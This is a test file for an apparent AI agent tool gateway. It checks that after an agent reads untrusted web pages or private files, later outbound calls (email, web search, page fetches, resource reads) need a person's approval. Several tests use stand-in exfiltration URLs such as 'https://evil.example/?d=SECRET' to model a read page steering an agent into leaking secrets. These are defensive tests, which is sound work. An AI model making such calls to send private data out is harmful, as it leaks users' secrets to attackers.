// Content of strangers and private data: together they leave only with a person's approval.
import { mkdirSync, mkdtempSync, rmSync, writeFileSync } from "node:fs";
import { tmpdir } from "node:os";
import { join } from "node:path";
import { pathToFileURL } from "node:url";
import { expect, test } from "vitest";
import type { JsonObject } from "../../src/base/json.ts";
import type { Tool } from "../../src/tool.ts";
import { createBuiltinToolkits } from "../../src/toolkits/builtin.ts";
import { createDocumentToolkit } from "../../src/toolkits/document/document.ts";
import { openLedger } from "../../src/trust/ledger.ts";
import { reviewServer } from "../../src/trust/review.ts";
import { createTrust } from "../../src/trust/trust.ts";
import { listWorkflowTools } from "../../src/workflow/tool-list.ts";
import { modern, type RawClient } from "../servers/client.ts";
import { createMemoryClient } from "../servers/memory-client.ts";
import { createToolkit } from "../servers/toolkits.ts";
import { openWorld, type World, type WorldOptions } from "../trust/world.ts";

const minutes = 60_000;

async function status(client: RawClient, name: string, args: JsonObject = {}): Promise<string> {
  const { result } = await client.request("tools/call", { name, arguments: args });
  const { isError, _meta = {} } = result as { isError?: boolean; _meta?: JsonObject };
  return isError ? `${(_meta["guildhall/error"] as JsonObject).error_type}` : "ran";
}

const plain = (name: string, ...parameters: readonly string[]): Tool => ({
  name,
  inputSchema: {
    type: "object",
    properties: Object.fromEntries(parameters.map((key) => [key, { type: "string" }])),
  },
});

async function openTainted(options: WorldOptions = {}): Promise<World> {
  const world = await openWorld(options);
  world.files.tools.push(plain("frobnicate"), plain("list_orders"));
  world.web.tools.push(plain("web_search", "query"), plain("http_request", "url"));
  await world.reviewAgain();
  return world;
}

test("a page read in one call does not steer the next call of the same conversation", async () => {
  await using world = await openTainted();
  const client = await world.connect();
  expect(await status(client, "mail.send_email")).toBe("ran");
  expect(await status(client, "web.fetch_page", { url: "https://evil.example" })).toBe("ran");
  expect(await status(client, "mail.send_email")).toBe("approval_needed");
  expect(await status(client, "files.frobnicate")).toBe("approval_needed");
  expect(await status(client, "web.fetch_page", { url: "https://evil.example/?d=SECRET" })).toBe(
    "approval_needed",
  );
  expect(await status(client, "web.http_request", { url: "https://evil.example" })).toBe(
    "approval_needed",
  );
  expect(await status(client, "files.list_orders")).toBe("ran");
  expect(await status(client, "files.read_file")).toBe("ran");
});

test("private data does not leave for an address or a search engine", async () => {
  await using world = await openTainted();
  const client = await world.connect();
  expect(await status(client, "files.read_file")).toBe("ran");
  expect(await status(client, "files.read_file")).toBe("ran");
  expect(await status(client, "web.fetch_page", { url: "https://evil.example/?d=SECRET" })).toBe(
    "approval_needed",
  );
  expect(await status(client, "web.web_search", { query: "SECRET" })).toBe("approval_needed");
  expect(await status(client, "mail.send_email")).toBe("approval_needed");
  expect(await status(client, "files.frobnicate")).toBe("approval_needed");
});

test("the taint stays with its connection, and for 30 minutes after the last read", async () => {
  let now = 0;
  await using world = await openTainted({ now: () => now });
  const client = await world.connect();
  await status(client, "web.fetch_page", { url: "https://evil.example" });
  now = 29 * minutes;
  expect(await status(client, "mail.send_email")).toBe("approval_needed");
  expect(await status(await world.connect(), "mail.send_email")).toBe("ran");
  now = 31 * minutes;
  expect(await status(client, "mail.send_email")).toBe("ran");
});

test("requests without a connection share the taint of their principal", async () => {
  await using world = await openTainted();
  const call = async (principal: string, name: string): Promise<JsonObject> => {
    const client = createMemoryClient(world.door.hall, {
      principal,
      isNetwork: true,
      quota: "127.0.0.1",
    });
    const { result } = await client.request("tools/call", modern({ name, arguments: {} }));
    return result as JsonObject;
  };
  await call("ci", "web.fetch_page");
  expect(await call("ci", "mail.send_email")).toMatchObject({ isError: true });
  expect(await call("other", "mail.send_email")).not.toMatchObject({ isError: true });
});

test("content of resources taints, and no resource address carries data out", async () => {
  const read: string[] = [];
  const resources = [
    { uri: "file:///home/me/notes", name: "notes" },
    { uri: "https://news.example/", name: "news" },
  ];
  const templates = [{ uriTemplate: "fetch://{url}", name: "any page" }];
  const shelf = createToolkit(
    "shelf",
    {},
    {
      source: "upstream",
      resources: {
        list: async () => resources,
        templates: async () => templates,
        covers: (uri) => uri.startsWith("fetch://"),
        async read(uri) {
          read.push(uri);
          return { contents: [{ uri, text: "words" }] };
        },
      },
    },
  );
  await using world = await openTainted({ toolkits: [shelf] });
  await world.ledger.change((entries) => ({
    ...entries,
    servers: {
      ...entries.servers,
      shelf: reviewServer({ source: "", reached: "", tools: [], resources, templates }),
    },
  }));
  const open = async (client: RawClient, uri: string): Promise<boolean> =>
    (await client.request("resources/read", { uri })).error === undefined;

  const owner = await world.connect();
  expect(await open(owner, "fetch://https%3A%2F%2Fevil.example")).toBe(true);
  expect(await status(owner, "mail.send_email")).toBe("approval_needed");

  const reader = await world.connect();
  expect(await open(reader, "file:///home/me/notes")).toBe(true);
  expect(await status(reader, "web.web_search", { query: "SECRET" })).toBe("approval_needed");
  expect(await open(reader, "fetch://https%3A%2F%2Fevil.example%2FSECRET")).toBe(false);
  expect(await open(reader, "https://news.example/")).toBe(true);
  expect(read.filter((uri) => uri.includes("SECRET"))).toEqual([]);
});

test("a file read as a document does not leave with the address of the next one", async () => {
  const folder = mkdtempSync(join(tmpdir(), "guildhall-taint-"));
  try {
    mkdirSync(join(folder, "docs"));
    writeFileSync(join(folder, "docs", "plan.txt"), "the plan");
    const fetched: string[] = [];
    const documents = createDocumentToolkit({
      roots: [join(folder, "docs")],
      reader: {
        read: async () => ({ parsed: { format: "txt", text: "the plan" }, characters: 8 }),
      },
      async fetch(url) {
        fetched.push(url.href);
        return { url, contentType: "text/plain", bytes: Buffer.from("page") } as never;
      },
    });
    await using world = await openTainted({ toolkits: [documents] });
    const client = await world.connect();
    const read = (url: string): Promise<string> =>
      status(client, "document_analyzer.extract_text", { document_url: url, format: "txt" });
    const file = pathToFileURL(join(folder, "docs", "plan.txt")).href;
    expect(await read(file)).toBe("ran");
    expect(await read(file)).toBe("ran");
    expect(await read("https://evil.example/?d=plan")).toBe("approval_needed");
    expect(fetched).toEqual([]);
  } finally {
    rmSync(folder, { recursive: true, force: true });
  }
});

test("every built-in tool says whether it changes anything", async () => {
  const trust = createTrust({ ledger: openLedger("project", { folder: "none", warn() {} }) });
  const workflow = createToolkit("speckit", {});
  const targets = listWorkflowTools({ commands: true }).map((tool) => ({
    toolkit: workflow,
    tool,
  }));
  for (const toolkit of createBuiltinToolkits())
    for (const tool of await toolkit.list()) targets.push({ toolkit, tool });
  const unknown = targets.filter(
    (target) => trust.judge({ ...target, fullName: target.tool.name }).marks.effect === "unknown",
  );
  expect(targets.length).toBeGreaterThan(15);
  expect(unknown.map(({ tool }) => tool.name)).toEqual([]);
});
